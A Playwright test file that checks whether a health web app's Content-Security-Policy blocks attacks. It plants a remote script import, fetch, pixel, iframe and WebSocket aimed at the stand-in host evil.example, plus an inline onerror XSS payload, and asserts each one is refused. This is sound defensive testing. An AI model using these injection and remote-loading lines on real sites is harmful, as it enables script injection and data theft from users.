/** Tests the page's Content-Security-Policy, as built and as enforced. Every other test fails on a violation too. */
import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { expect, test } from '../../native-shims/src/playwright.ts';
import { zh } from '../src/screens/home/words/zh.ts';
import { untilProgram } from './journey/program.ts';

test.use({ allowErrors: [/Content Security Policy|Trusted(?:HTML|Script)/] });

async function openHome(page: Page): Promise<void> {
  await page.goto('/health/');
  await untilProgram(page);
  await expect(page.getByText(zh.home.visitor)).toBeVisible();
}

/** Loads a foreign script, as an attacker would. It is a text, because the runner would rewrite the import. */
const plantScript = (page: Page) => page.evaluate("import('https://evil.example/a.js').catch(() => undefined)");

/** Removes the planted violation, which the page's own tag reports. */
async function expectRefused(page: Page, violations: string[], words: RegExp): Promise<void> {
  await expect.poll(() => violations.filter((violation) => words.test(violation))).toHaveLength(1);
  // Waits for the console's message, which precedes the page's answer.
  await page.evaluate(() => undefined);
  violations.splice(0);
}

test('every page and file of the app when it is loaded: has the headers of the build', async ({ page, request }) => {
  const file = readFileSync('dist/web/_headers', 'utf8');
  const [, everywhere = ''] = /^\/health\/\*\n((?: {2}.*\n)+)/.exec(file) ?? [];
  const named = [...everywhere.matchAll(/^ {2}([\w-]+): (.*)$/gm)].map(([, name = '', value]) => [
    name.toLowerCase(),
    value,
  ]);
  expect(named.map(([name]) => name)).toEqual(['content-security-policy', 'referrer-policy', 'x-content-type-options']);
  await openHome(page);
  const files = await page.evaluate(() => performance.getEntriesByType('resource').map(({ name }) => name));
  const assets = files.filter((name) => name.includes('/assets/'));
  expect(assets.length).toBeGreaterThan(3);
  for (const path of ['/health/', '/health/package-list', '/health/worker.js', ...assets])
    for (const [name = '', value = ''] of named)
      expect((await request.get(path)).headers()[name]?.split(', ')[0], `${path} ${name}`).toBe(value);
});

test('a request to another site when a page sends it: contains at most the page’s origin', async ({ page }) => {
  await openHome(page);
  const answer = page.waitForRequest(/\/api\//);
  await page.reload();
  const referrer = (await (await answer).allHeaders())['referer'];
  expect(referrer).toBe(`${new URL(page.url()).origin}/`);
});

test('a script when it is foreign, inline or in markup: does not run', async ({ page, violations }) => {
  await openHome(page);
  await plantScript(page);
  await expectRefused(page, violations, /^script-src-elem https:\/\/evil.example/);
  const handler = page.evaluate(() => document.body.setAttribute('onclick', 'window.planted = 1'));
  await expect(handler).rejects.toThrow(/TrustedScript/);
  await expectRefused(page, violations, /^require-trusted-types-for/);
  const markup = page.evaluate(() => {
    document.body.innerHTML = '<img src="x" onerror="window.planted = 1">';
  });
  await expect(markup).rejects.toThrow(/TrustedHTML/);
  await expectRefused(page, violations, /^require-trusted-types-for/);
  expect(await page.evaluate(() => 'planted' in window)).toBe(false);
});

test('another server when a page uses it: receives and shows nothing', async ({ page, violations }) => {
  await openHome(page);
  const called = page.evaluate(() => fetch('https://evil.example/').then(String, String));
  expect(await called).toMatch(/TypeError/);
  await expectRefused(page, violations, /^connect-src https:\/\/evil.example/);
  await page.evaluate(() => {
    new Image().src = 'https://evil.example/pixel';
  });
  await expectRefused(page, violations, /^img-src https:\/\/evil.example/);
  await page.evaluate(() => {
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.example/';
    document.body.append(frame);
  });
  await expectRefused(page, violations, /^frame-src https:\/\/evil.example/);
});

test('a socket when it opens: reaches only the chat’s server', async ({ page, violations }) => {
  await openHome(page);
  const opens = (address: string) =>
    page.evaluate(
      (to) =>
        new Promise<boolean>((resolve) => {
          const socket = new WebSocket(to);
          socket.onopen = () => resolve(true);
          socket.onerror = () => resolve(false);
        }),
      address,
    );
  expect(await opens(`ws://${new URL(page.url()).host}/chat?clientId=c&orderNo=O1001`)).toBe(true);
  expect(violations).toEqual([]);
  expect(await opens('wss://evil.example/chat')).toBe(false);
  await expectRefused(page, violations, /^connect-src wss:\/\/evil.example/);
});

test('H10: a frame when a client’s bridge opens it for its app: is allowed', async ({ page }) => {
  await openHome(page);
  await page.evaluate(() => {
    const frame = document.createElement('iframe');
    frame.src = 'weixin://dispatch_message/';
    document.body.append(frame);
  });
});

test('a test when a violation occurs: fails, even if the console line is expected', async ({ page, violations }) => {
  await openHome(page);
  await plantScript(page);
  await expect.poll(() => violations.length).toBeGreaterThan(0);
  // The check at the end of every test must fail now.
  test.fail();
});
